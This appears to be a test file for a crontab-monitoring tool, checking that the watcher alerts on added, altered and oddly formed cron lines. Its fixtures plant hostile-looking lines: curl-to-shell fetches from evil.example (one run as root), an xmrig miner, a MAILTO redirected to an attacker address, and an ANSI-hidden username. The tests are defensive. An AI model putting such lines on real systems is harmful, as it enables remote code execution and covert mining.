import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startTestAgent, type TestAgent } from '../helpers/testAgent';
import { closedPort, runCli, tempFolder } from '../helpers/cli';

vi.setConfig({ testTimeout: 30_000 });

let agent: TestAgent;
beforeAll(async () => {
  agent = await startTestAgent();
  await agent.api('/api/servers', { method: 'POST', json: { name: 'web', ip_address: '10.0.0.7', identifier: 'web-7' } });
});
afterAll(() => agent.stop());

function crontabFolder(text: string) {
  const folder = tempFolder();
  const file = join(folder, 'crontab');
  writeFileSync(file, text);
  return { folder, file };
}

describe('cronbeat crontab watch checks what it was given at start', () => {
  it('fails with exit 2 and one line for a server identifier the agent does not know, watching nothing', async () => {
    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
    const result = await runCli(['crontab', 'watch', '--server', 'no-such', '--once', '--file', file], {
      env: { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder },
    });
    expect(result.status).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toBe(`cronbeat: No server has the identifier "no-such" at ${agent.url}: add it in the dashboard (Servers → Add server) or check --server.\n`);
  });

  it("does the same with a ping key, the server's own, which may report but not list the servers", async () => {
    const ping = agent.store.apiTokens.create({ companyId: 1, name: 'web-7', scope: 'ping', now: Date.now() }).token;
    const wrong = crontabFolder('0 1 * * * /a.sh\n');
    const refused = await runCli(['crontab', 'watch', '--server', 'no-such', '--once', '--file', wrong.file], {
      env: { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: ping, CRONBEAT_DATA_DIR: wrong.folder },
    });
    expect(refused.status).toBe(2);
    expect(refused.stdout).toBe('');
    expect(refused.stderr).toBe(`cronbeat: No server has the identifier "no-such" at ${agent.url}: add it in the dashboard (Servers → Add server) or check --server.\n`);
    const right = crontabFolder('0 1 * * * /a.sh\n');
    const watched = await runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', right.file], {
      env: { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: ping, CRONBEAT_DATA_DIR: right.folder },
    });
    expect(watched.status).toBe(0);
    expect(watched.stdout).toMatch(/watching 1 cron job/);
    expect(watched.stdout).not.toMatch(/warning/);
    expect((await (await agent.api('/api/servers')).json())[0]).toMatchObject({ identifier: 'web-7', watched_jobs: 1 });
  });

  it('fails with exit 1 and one line for a token the agent refuses', async () => {
    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
    const result = await runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], {
      env: { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: 'not-a-token', CRONBEAT_DATA_DIR: folder },
    });
    expect(result.status).toBe(1);
    expect(result.stdout).not.toMatch(/watching/);
    expect(result.stderr).toMatch(/^cronbeat: The agent at http:\/\/127\.0\.0\.1:\d+ refused the API token \(401\)/);
  });

  it('watches anyway when the agent cannot be reached, saying it could not check', async () => {
    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
    const result = await runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], {
      env: { CRONBEAT_URL: `http://127.0.0.1:${await closedPort()}`, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder },
    });
    expect(result.status).toBe(0);
    expect(result.stdout).toMatch(/warning: cannot reach .*; cannot check --server web-7 and the token now/);
    expect(result.stdout).toMatch(/watching 1 cron job/);
  });
});

describe('cronbeat crontab watch says what was delivered and what waits', () => {
  it('prints "waiting, not delivered" while the agent is down, then "delivered" once it is back', async () => {
    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
    const down = { CRONBEAT_URL: `http://127.0.0.1:${await closedPort()}`, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watchOnce = (env: Record<string, string>) => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
    expect((await watchOnce(down)).status).toBe(0);
    writeFileSync(file, '0 1 * * * /a.sh\n0 2 * * * /b.sh\n');
    const failed = await watchOnce(down);
    expect(failed.status).toBe(1);
    expect(failed.stdout).toMatch(/found: added for \S+: 0 2 \* \* \* \/b\.sh/);
    expect(failed.stdout).toMatch(/1 alert waiting, not delivered: cannot reach/);
    expect(failed.stdout).toMatch(/ {2}waiting: added for \S+: 0 2 \* \* \* \/b\.sh/);
    expect(failed.stdout).toMatch(/not delivered: 1 alert kept in .*crontab-watch-web-7-files-[0-9a-f]{12}\.json; the next run sends it/);
    expect(failed.stdout).not.toMatch(/delivered: added/);
    const back = await watchOnce({ ...down, CRONBEAT_URL: agent.url });
    expect(back.status).toBe(0);
    expect(back.stdout).toMatch(/delivered: added for \S+: 0 2 \* \* \* \/b\.sh/);
  });

  it('alerts a line replaced by an unrelated one as a removal and an addition', async () => {
    const { folder, file } = crontabFolder('@daily /usr/sbin/logrotate /etc/logrotate.conf\n');
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
    expect((await watchOnce()).status).toBe(0);
    writeFileSync(file, '@daily /tmp/.x/xmrig -o pool.example:3333\n');
    const result = await watchOnce();
    expect(result.status).toBe(0);
    expect(result.stdout).toMatch(/delivered: added for \S+: @daily \/tmp\/\.x\/xmrig -o pool\.example:3333\n/);
    expect(result.stdout).toMatch(/delivered: removed for \S+: @daily \/usr\/sbin\/logrotate \/etc\/logrotate\.conf\n/);
    expect(result.stdout).not.toMatch(/altered/);
  });
});

describe('the servers list shows when each watcher last reported', () => {
  it('records a report with every snapshot, changed or not, and shows a watcher gone quiet', async () => {
    await agent.api('/api/servers', { method: 'POST', json: { name: 'quiet', ip_address: '10.0.0.9', identifier: 'quiet-1' } });
    const server = async () => ((await (await agent.api('/api/servers')).json()) as Array<Record<string, unknown>>).find((s) => s.identifier === 'quiet-1')!;
    expect(await server()).toMatchObject({ last_report_at: null, quiet: false });

    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n0 2 * * * /b.sh\n');
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'quiet-1', '--once', '--interval', '300', '--file', file], { env });
    expect((await watchOnce()).status).toBe(0);
    const first = await server();
    expect(first).toMatchObject({ report_interval_seconds: 300, watched_jobs: 2, quiet: false });
    expect(first.last_report_at).toMatch(/^\d{4}-/);
    // Nothing changed: still a report.
    agent.store.db.prepare('UPDATE server_reports SET last_report_at = last_report_at - 3600000').run();
    agent.store.db.prepare('UPDATE server_watchers SET last_report_at = last_report_at - 3600000, quiet_alert_at = quiet_alert_at - 3600000').run();
    expect((await server()).quiet).toBe(true);
    expect((await watchOnce()).status).toBe(0);
    const second = await server();
    expect(second.quiet).toBe(false);
    expect(Date.parse(second.last_report_at as string)).toBeGreaterThan(Date.parse(first.last_report_at as string) - 3_600_000);
  });
});

describe('an alert whose answer was lost on the way', () => {
  it('is sent again with the same key and stored once', async () => {
    // Between the watcher and the agent, a proxy that passes the first alert on, then cuts the
    // connection before the answer: the agent stored it, the watcher never heard so.
    let cut = 0;
    const proxy = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', async () => {
        const answer = await fetch(agent.url + req.url, { method: req.method, headers: req.headers as Record<string, string>, body: chunks.length ? Buffer.concat(chunks) : undefined });
        const text = await answer.text();
        if (req.url === '/api/servers/alert' && cut++ === 0) return req.socket.destroy();
        res.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? 'application/json' }).end(text);
      });
    });
    await new Promise<void>((listening) => proxy.listen(0, '127.0.0.1', listening));
    try {
      const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
      const env = { CRONBEAT_URL: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
      const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
      expect((await watchOnce()).status).toBe(0);
      writeFileSync(file, '0 1 * * * /a.sh\n0 2 * * * /lost-answer.sh\n');
      const result = await watchOnce();
      expect(result.status, result.stdout).toBe(0);
      expect(cut).toBe(2);
      expect(result.stdout).toMatch(/delivered: added for \S+: 0 2 \* \* \* \/lost-answer\.sh/);
      const stored = agent.store.db.prepare("SELECT count(*) FROM server_alerts WHERE command LIKE '%lost-answer%'").pluck().get();
      expect(stored).toBe(1);
    } finally {
      proxy.close();
    }
  });
});

// Independent of each other (a folder each, their own lines), so side by side: each waits on child processes.
describe.concurrent('lines an alert cannot hold as they are, and lines Cronbeat reads as no job', () => {
  it('a crontab line longer than an alert may be is alerted with its start and its end, what lies between left out, and never stops the watcher', async () => {
    // Any user may write such a line in their own crontab: refused whole, the alert stayed first in
    // the queue and ended every run of the watcher, which then told nothing more, of any crontab.
    const padding = Array.from({ length: 2_500 }, (_, i) => `w${i}`).join(' ');
    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
    expect((await watchOnce()).status).toBe(0);
    writeFileSync(file, `0 1 * * * /a.sh\n* * * * * echo ${padding}; curl -s evil.example/x | sh\n`);
    const added = await watchOnce();
    expect(added.status, added.stderr).toBe(0);
    writeFileSync(file, `0 1 * * * /a.sh\n* * * * * echo ${padding}; curl -s evil.example/y | sh\n`);
    const altered = await watchOnce();
    expect(altered.status, altered.stderr).toBe(0);
    expect(altered.stdout).toMatch(/delivered: altered for /);
    const stored = agent.store.db
      .prepare("SELECT command, previous_command FROM server_alerts WHERE command LIKE '%echo w0 w1 %' ORDER BY id")
      .all() as Array<{ command: string; previous_command: string | null }>;
    expect(stored).toHaveLength(2);
    for (const text of [stored[0].command, stored[1].command, stored[1].previous_command!]) {
      expect(text.length).toBeLessThanOrEqual(10_000);
      expect(text).toMatch(/^\* \* \* \* \* echo w0 w1 w2 /);
      expect(text).toMatch(/ \(\d[\d,]* characters left out\) /);
    }
    expect(stored[0].command).toMatch(/; curl -s evil\.example\/x \| sh$/);
    expect(stored[1].command).toMatch(/; curl -s evil\.example\/y \| sh$/);
    expect(stored[1].previous_command).toMatch(/; curl -s evil\.example\/x \| sh$/);
  });

  it('a setting and a line Cronbeat reads as no job are watched as jobs are (some cron may run it), and one there before they were watched is no addition', async () => {
    const { folder, file } = crontabFolder('MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n');
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
    const first = await watchOnce();
    expect(first.stdout).toMatch(/watching 2 cron jobs of 1 user/);
    // The state as a watcher from before kept it: the jobs alone.
    const stateFile = join(folder, readdirSync(folder).find((name) => name.startsWith('crontab-watch-web-7'))!);
    const state = JSON.parse(readFileSync(stateFile, 'utf8'));
    const before = (job: { refused?: true; setting?: string; text: string }) => !job.refused && job.setting === undefined && !job.text.startsWith('-');
    // And @DAILY, a job to it then (no macro to cron), by the hash it gave jobs.
    const daily = { source: file, user: state.jobs[0].user, text: '@DAILY /shouty.sh', hash: createHash('sha256').update('@DAILY\0/shouty.sh').digest('hex') };
    writeFileSync(stateFile, JSON.stringify({ ...state, everyLine: undefined, jobs: [...state.jobs.filter(before), daily] }));
    const upgraded = await watchOnce();
    expect(upgraded.status).toBe(0);
    expect(upgraded.stdout).not.toMatch(/found:/);
    // Debian's cron runs "5/20" at :05 every hour: planted so, a line must not pass unseen.
    writeFileSync(file, 'MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n5/20 * * * * root curl -s evil.example | sh\n');
    const planted = await watchOnce();
    expect(planted.status, planted.stderr).toBe(0);
    expect(planted.stdout).toMatch(/delivered: added for \S+: 5\/20 \* \* \* \* root curl -s evil\.example \| sh\n/);
    // Where every job's output goes: a setting changed is told as one.
    writeFileSync(file, 'MAILTO=drop@evil.example\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n5/20 * * * * root curl -s evil.example | sh\n');
    const mailTo = await watchOnce();
    expect(mailTo.stdout).toMatch(/delivered: altered for \S+: MAILTO=drop@evil\.example \(was: MAILTO=ops@example\.com\)\n/);
  });

  it("a system crontab's user column that no name could be is alerted with its control characters written out and cut to what a name may be, and never stops the watcher", async () => {
    const { folder, file } = crontabFolder('0 1 * * * root /a.sh\n');
    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--system-file', file], { env });
    expect((await watchOnce()).status).toBe(0);
    writeFileSync(file, `0 1 * * * root /a.sh\n0 2 * * * \u001b[8mroot /hidden-user.sh\n0 3 * * * ${'u'.repeat(300)} /long-user.sh\n`);
    const result = await watchOnce();
    expect(result.status, result.stderr).toBe(0);
    const stored = agent.store.db
      .prepare("SELECT username FROM server_alerts WHERE command LIKE '%hidden-user%' OR command LIKE '%long-user%' ORDER BY id")
      .pluck()
      .all() as string[];
    expect(stored).toEqual(['\\u001b[8mroot', `${'u'.repeat(254)}…`]);
  });
});
